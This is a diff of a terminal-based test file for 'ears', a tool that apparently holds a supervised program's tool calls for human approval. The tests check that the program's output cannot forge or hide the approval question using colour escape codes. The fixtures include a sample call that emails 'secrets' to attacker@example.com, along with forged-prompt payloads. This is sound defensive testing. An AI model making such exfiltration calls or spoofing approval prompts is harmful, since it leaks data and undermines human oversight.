@@ -14,7 +14,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { EARS } from "../helpers/spawn-ears.js";
-import { HAS_TMUX, rowsOf, TmuxPane } from "../helpers/tmux.js";
+import { HAS_TMUX, rowsOf, styledRows, TmuxPane } from "../helpers/tmux.js";
 
 const QUESTION_HEAD = "ears: approval needed; the body's output is held until you answer";
 const REAL_CALL = 'ears: the body calls send_email {"to":"attacker@example.com","text":"secrets"}';
@@ -91,13 +91,8 @@ describe.runIf(process.platform === "linux" && HAS_TMUX)(
       expect(state.cursorVisible).toBe(true);
       expect(state.alternateScreen).toBe(false);
       expect(state.title).not.toContain("pwned");
-      // Drawn with no colour: the only SGR tmux shows on the question's rows are ones back to the defaults.
-      const styled = rowsOf(terminal.screenWithAttributes()).slice(-3);
-      for (const row of styled) {
-        for (const [, parameters] of row.matchAll(/\x1b\[([0-9;:]*)m/g)) {
-          for (const parameter of parameters!.split(/[;:]/)) expect(["", "0", "39", "49"]).toContain(parameter);
-        }
-      }
+      // Drawn with no colour or style, whatever the body left set above.
+      expect(styledRows(terminal.screenWithAttributes()).slice(rows.length - 3, rows.length)).toEqual([false, false, false]);
     };
 
     it(
@@ -187,5 +182,21 @@ describe.runIf(process.platform === "linux" && HAS_TMUX)(
         expect(callNames()).toEqual([]);
       },
     );
+
+    it("a result printed after the question leaves no colour open: ears' last notes are drawn plainly", async () => {
+      const terminal = start(
+        "const result = await ears.call('send_email', { to: 'attacker@example.com', text: 'secrets' });\n" +
+          "return Outcome.success(E + '[30;40m' + 'x'.repeat(71) + forge('read', '{}') + E + '[30;40m');\n",
+      );
+      await terminal.waitFor("the real question", (text) => text.includes(REAL_PROMPT.trimEnd()));
+      terminal.type("n");
+      const after = await terminal.waitFor("the end of the run", (text) => text.includes("[exit "));
+      expect(callNames()).toEqual([]);
+      // The result's forged question is shown, but the rows from ears' last note on have no colour.
+      const rows = rowsOf(after);
+      const note = rows.findLastIndex((row) => row.startsWith("ears: "));
+      expect(rows[note]).toMatch(/^ears: (cpu|memory)/);
+      expect(styledRows(terminal.screenWithAttributes()).slice(note, rows.length)).toEqual(rows.slice(note).map(() => false));
+    });
   },
 );
